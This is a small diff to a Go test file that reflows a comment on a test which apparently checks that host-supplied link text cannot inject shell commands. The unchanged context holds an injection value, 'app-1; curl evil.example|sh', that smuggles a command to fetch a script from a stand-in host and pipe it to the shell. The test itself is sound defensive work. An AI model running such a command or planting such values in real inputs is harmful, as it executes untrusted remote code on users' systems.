@@ -14,7 +14,8 @@ import (
 	"github.com/keep-it-simple/kis/remote"
 )
 
-// TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp: the text of a link is whatever its host says, and shells read more than names.
+// TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp: the text of a link is whatever its host says,
+// and shells read more than names.
 func TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp(t *testing.T) {
 	t.Parallel()
 	const evil = "app-1; curl evil.example|sh"
